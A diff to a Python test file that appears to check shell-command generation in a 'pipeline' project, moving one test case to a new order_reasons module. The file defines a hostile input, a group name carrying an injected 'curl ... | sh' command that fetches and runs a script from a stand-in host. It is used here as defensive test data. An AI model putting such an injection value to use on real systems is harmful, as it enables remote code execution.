@@ -6,6 +6,7 @@ import pytest
 
 from pipeline import shell
 from pipeline.planning import broker_reasons, reasons
+from pipeline.planning.life import order_reasons
 
 HOSTILE = "billing;curl${IFS}evil.sh|sh"
 
@@ -25,7 +26,7 @@ def test_command_for_a_group_reaches_that_group_in_a_shell(name: str) -> None:
     ("reason", "command"),
     [
         (reasons.paused("eva@desk", "", HOSTILE), "resume"),
-        (reasons.awaiting_approval("2026-01-31T12:00:00Z", HOSTILE), "approve"),
+        (order_reasons.awaiting_approval("2026-01-31T12:00:00Z", HOSTILE), "approve"),
         (broker_reasons.member_stuck("b-1", HOSTILE), "doctor"),
     ],
 )
